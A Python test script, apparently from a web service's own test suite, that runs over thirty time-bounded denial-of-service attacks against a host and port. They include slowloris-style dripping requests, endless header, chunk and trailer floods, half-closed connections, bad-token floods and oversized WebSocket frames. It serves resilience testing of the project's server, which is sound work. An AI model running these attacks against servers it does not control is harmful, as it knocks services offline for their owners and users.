"""Requests that try to bring a server down, each bounded in count and time.

    python tests/attacks.py HOST PORT NAME SECONDS [TOKEN]

runs one of ATTACKS in a process of its own: opens its connections again where they are cut, and
ends after SECONDS. Prints how many connections it had.
"""

from __future__ import annotations

import asyncio
import resource
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

POST = b"POST /webhooks/shop HTTP/1.1\r\nhost: here\r\n"
HEALTH = b"GET /healthz HTTP/1.1\r\nhost: here\r\n\r\n"
WEBSOCKET = (
    b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: here\r\nupgrade: websocket\r\n"
    b"connection: Upgrade\r\nsec-websocket-version: 13\r\n"
    b"sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
HANDSHAKE = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nhost: here\r\n"
STREAM = b"GET /api/v1/events/stream HTTP/1.1\r\nhost: here\r\nauthorization: Bearer %b\r\n\r\n"


class Line:
    """A connection of the attacker's, which reads only where it is told to."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer

    async def say(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def drip(self, data: bytes, every: float = 0.2) -> None:
        while True:
            await self.say(data)
            await asyncio.sleep(every)

    async def flood(self, data: bytes) -> None:
        while True:
            await self.say(data)

    async def hold(self) -> None:
        await self.reader.read()  # until we are cut


Act = Callable[[Line, bytes], Awaitable[None]]


@dataclass(frozen=True, slots=True)
class Attack:
    """`act` on each of `count` connections, with the token where there is one."""

    count: int
    act: Act
    served: bool = False
    """Only `serve` has what it attacks."""


def says(first: bytes) -> Act:
    """Say this, and wait."""

    async def act(line: Line, _token: bytes) -> None:
        await line.say(first)
        await line.hold()

    return act


def drips(first: bytes, piece: bytes = b"a") -> Act:
    async def act(line: Line, _token: bytes) -> None:
        await line.say(first)
        await line.drip(piece)

    return act


def floods(first: bytes, piece: bytes) -> Act:
    async def act(line: Line, _token: bytes) -> None:
        await line.say(first)
        await line.flood(piece)

    return act


def ends(first: bytes) -> Act:
    """Say this and that no more will come; read nothing."""

    async def act(line: Line, _token: bytes) -> None:
        await line.say(first)
        line.writer.write_eof()
        await asyncio.sleep(3600)

    return act


async def comes_and_goes(line: Line, _token: bytes) -> None:
    line.writer.transport.abort()


async def listens(line: Line, token: bytes) -> None:
    await line.say(STREAM % token)
    await asyncio.sleep(3600)


async def polls(line: Line, _token: bytes) -> None:
    await line.say(HANDSHAKE + b"\r\n")
    told = await line.reader.readuntil(b"}")
    sid = told.split(b'"sid":"')[1].split(b'"')[0]
    await line.say(HANDSHAKE.replace(b" HTTP", b"&sid=%b HTTP" % sid) + b"\r\n")
    await line.hold()


def frame(payload: bytes, kind: int, size: int | None = None) -> bytes:
    size = len(payload) if size is None else size
    return bytes([kind, 0xFF]) + size.to_bytes(8, "big") + bytes(4) + payload


def ping(payload: bytes) -> bytes:
    return bytes([0x89, 0x80 | len(payload)]) + bytes(4) + payload


LARGE = b"content-length: 3000000\r\n\r\n" + b"a" * 2_900_000
CHUNKED = b"transfer-encoding: chunked\r\n\r\n"

ATTACKS = {
    "silence": Attack(400, says(b"")),
    "half a request line": Attack(400, says(b"POST /webhooks/sh")),
    "dripping headers": Attack(300, drips(POST + b"x: ")),
    "dripping lines": Attack(300, drips(b"", b"\r\n")),
    "a header without end": Attack(20, floods(POST + b"x: ", b"a" * 65536)),
    "headers without end": Attack(20, floods(POST, b"a:\r\n" * 16384)),
    "an address without end": Attack(20, floods(b"GET /", b"a" * 65536)),
    "large headers": Attack(200, says(POST + b"x: " + b"a" * 60_000)),
    "dripping bodies": Attack(300, drips(POST + b"content-length: 100000\r\n\r\n")),
    "unfinished webhooks": Attack(200, says(POST + LARGE)),
    "bodies without end": Attack(20, floods(POST + CHUNKED, b"10000\r\n" + b"a" * 65536 + b"\r\n")),
    "extensions without end": Attack(20, floods(POST + CHUNKED + b"1;", b"e" * 65536)),
    "trailers without end": Attack(
        20, floods(POST + CHUNKED + b"1\r\na\r\n0\r\n", b"t: t\r\n" * 8192)
    ),
    "a body nobody reads": Attack(
        20,
        floods(
            HEALTH.replace(b"\r\n\r\n", b"\r\ncontent-length: 99999999999\r\n\r\n"), b"a" * 65536
        ),
    ),
    "idle after an answer": Attack(400, says(HEALTH)),
    "idle but for a line": Attack(300, drips(HEALTH, b"\r\n")),
    "half closed": Attack(300, ends(POST + b"content-length: 10\r\n\r\n")),
    "half closed and answered": Attack(300, ends(HEALTH)),
    "answers nobody reads": Attack(30, floods(b"", HEALTH * 200)),
    "waits to continue": Attack(
        300, says(POST + b"expect: 100-continue\r\ncontent-length: 9\r\n\r\n")
    ),
    "comes and goes": Attack(400, comes_and_goes),
    "no HTTP": Attack(200, says(b"\x16\x03\x01\x02\x00" + b"\x00" * 500)),
    "another protocol": Attack(
        200, says(b"GET /healthz HTTP/1.1\r\nconnection: upgrade\r\nupgrade: h2c\r\n\r\n")
    ),
    "pages nobody reads": Attack(
        40, floods(b"", b"GET /api/v1/openapi.json HTTP/1.1\r\nhost: here\r\n\r\n" * 8), served=True
    ),
    "wrong tokens": Attack(
        20,
        floods(b"", b"GET /api/v1/contacts HTTP/1.1\r\nauthorization: Bearer wab_0_x\r\n\r\n"),
        served=True,
    ),
    "a crowd with wrong tokens": Attack(
        400,
        says(b"GET /api/v1/contacts HTTP/1.1\r\nauthorization: Bearer wab_0_x\r\n\r\n"),
        served=True,
    ),
    "WebSockets of nobody": Attack(300, says(WEBSOCKET), served=True),
    "unfinished frames": Attack(
        40, floods(WEBSOCKET, frame(b"a" * 65536, 0x81, 1 << 30)), served=True
    ),
    "fragments": Attack(
        40, floods(WEBSOCKET + frame(b"a", 0x01), frame(b"a" * 100, 0x00) * 100), served=True
    ),
    "pings nobody reads": Attack(40, floods(WEBSOCKET, ping(b"p" * 125) * 500), served=True),
    "polls of nobody": Attack(300, polls, served=True),
    "many listeners": Attack(300, listens, served=True),
}

AGAIN = 3
"""How often a connection that was cut is opened once more."""


async def attack(host: str, port: int, attack: Attack, seconds: float, token: bytes) -> int:
    """Carry it out; how many connections it had."""
    had = 0

    async def one() -> None:
        nonlocal had
        for _ in range(1 + AGAIN):
            with suppress(OSError, asyncio.IncompleteReadError, IndexError):
                reader, writer = await asyncio.open_connection(host, port, limit=65536)
                had += 1
                try:
                    await attack.act(Line(reader, writer), token)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.2)

    tasks = [asyncio.create_task(one()) for _ in range(attack.count)]
    await asyncio.wait(tasks, timeout=seconds)
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks)
    return had


if __name__ == "__main__":
    where, number, name, lasts, *given = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    key = given[0].encode() if given else b""
    sys.stdout.write(
        f"{asyncio.run(attack(where, int(number), ATTACKS[name], float(lasts), key))}\n"
    )
